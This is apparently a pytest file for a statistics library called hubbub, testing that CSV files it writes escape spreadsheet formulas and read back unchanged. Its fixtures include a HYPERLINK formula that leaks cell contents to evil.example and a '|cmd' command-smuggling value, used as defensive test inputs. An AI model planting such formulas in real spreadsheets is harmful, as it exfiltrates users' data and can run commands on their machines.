"""No CSV file that hubbub writes holds a formula, and none that it reads has lost its text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from estimation.asking.made_up import COLUMNS, KINDS, SILOS, table_of_study, write_silos
from hubbub import Study, fit
from hubbub.core.tabular.cells import cell_text, csv_text, read_cells
from hubbub.desk.cli.main import main
from hubbub.learning.runs.run_study import run

LINK = '=HYPERLINK("http://evil.example/?leak="&A1)'
FORMULAS = [
    *(LINK, "=1+1", "+SUM(1)", "-2+3|cmd", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff20A1"),
]
PLAIN = ["-2.5", "+3", "-1e-7", ".5", "-", "--", "a=b", "3-4", "", "I", "'s-Hertogenbosch", "<0.5"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_begins_like_a_formula_is_shown_and_not_calculated(text) -> None:
    (row,) = csv.reader(io.StringIO(csv_text([[text, 1]]), newline=""))
    assert row == [f"'{text}", "1"]
    assert cell_text(row[0]) == text


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_other_texts_stay_as_they_are(text) -> None:
    assert csv_text([["a", text]]) in (f"a,{text}\n", f'a,"{text}"\n')


def test_values_that_are_numbers_are_never_quoted() -> None:
    assert csv_text([[-1, -0.5, np.float64(-2.5), None, float("-inf")]]) == "-1,-0.5,-2.5,,-inf\n"


@pytest.mark.slow
@given(st.text())
def test_what_is_written_is_read_as_it_was(text: str) -> None:
    rows = csv_text([[text, "x"]])
    (row,) = csv.reader(io.StringIO(rows, newline=""))
    if not text.startswith("'"):  # as nobody's text does who means what is behind it
        assert cell_text(row[0]) == text


def formulas_in(path: Path) -> list[str]:
    """Cells that a program for tables would calculate."""
    text = io.StringIO(path.read_bytes().decode(), newline="")
    cells = [cell for row in csv.reader(text) for cell in row]
    return [cell for cell in cells if cell[:1] in tuple("=@\t\r") or cell.startswith(("+S", "-2+"))]


def test_tables_of_statistics_hold_no_formula(tmp_path) -> None:
    write_silos(tmp_path)
    for name in SILOS:
        path = tmp_path / f"{name}.csv"
        path.write_text(path.read_text().replace("III", '"' + LINK.replace('"', '""') + '"'))
    asked: dict[str, Any] = {"=1+1": KINDS["crosstab"], "table": KINDS["table"]}
    said = table_of_study(tmp_path, **asked)
    columns = json.loads(json.dumps(COLUMNS).replace('"III"', json.dumps(LINK)))
    said["data"]["columns"] = columns
    run(Study.from_table(said), tmp_path / "run")
    written = list((tmp_path / "run" / "tables").glob("*.csv"))
    assert written
    assert LINK in "".join(path.read_text().replace('""', '"') for path in written)
    assert not [cell for path in written for cell in formulas_in(path)]


def test_predictions_hold_no_formula(tmp_path, capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    draw = np.random.default_rng(0)

    def silo() -> tuple[Any, Any]:
        x = draw.uniform(-1, 1, (60, 2))
        return x, np.where(x[:, 0] > 0, LINK, "well")

    columns = {name: {"low": -1, "high": 1} for name in ("a", "b")}
    parts = {
        name: ({"a": x[:, 0], "b": x[:, 1]}, y)
        for name, (x, y) in {name: silo() for name in SILOS}.items()
    }
    fit(parts, epsilon=5, steps=2, classes=["well", LINK], columns=columns, colluders=0, out="run")
    Path("new.csv").write_text("a,b\n1,0\n-1,0\n1,1\n0.9,1\n")
    assert main(["predict", "run", "new.csv", "--out", "scores.csv"]) == 0
    assert not formulas_in(Path("scores.csv"))
    assert main(["predict", "run", "new.csv"]) == 0
    Path("shown.csv").write_text(capsys.readouterr().out.split("\n", 1)[1])
    assert not formulas_in(Path("shown.csv"))


@pytest.mark.slow
def test_tidy_copies_hold_no_formula_and_are_read_as_the_files_were(tmp_path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    draw = np.random.default_rng(0)
    for name in ("north", "south", "east"):
        rows = [
            [
                ["yes", "no"][int(draw.integers(2))],
                f"{draw.uniform(-5, 5):.1f}",
                ["=A1&B1", "b", "c"][int(draw.integers(3))],
            ]
            for _ in range(60)
        ]
        with Path(f"{name}.csv").open("w", newline="") as file:
            csv.writer(file).writerows([["ill", "size", "kind"], *rows])
    typed = ["init", "north.csv", "south.csv", "east.csv", "--target", "ill", "--tidy", "tidy"]
    assert main([*typed, "--out", "study.toml"]) == 0
    copies = sorted(Path("tidy").glob("*.csv"))
    assert len(copies) == 3
    assert not [cell for path in copies for cell in formulas_in(path)]
    before, after = read_cells(Path("north.csv")), read_cells(Path("tidy/north.csv"))
    assert "=A1&B1" in after["kind"]
    assert after["kind"] == before["kind"]
    assert [*map(float, after["size"])] == [*map(float, before["size"])]
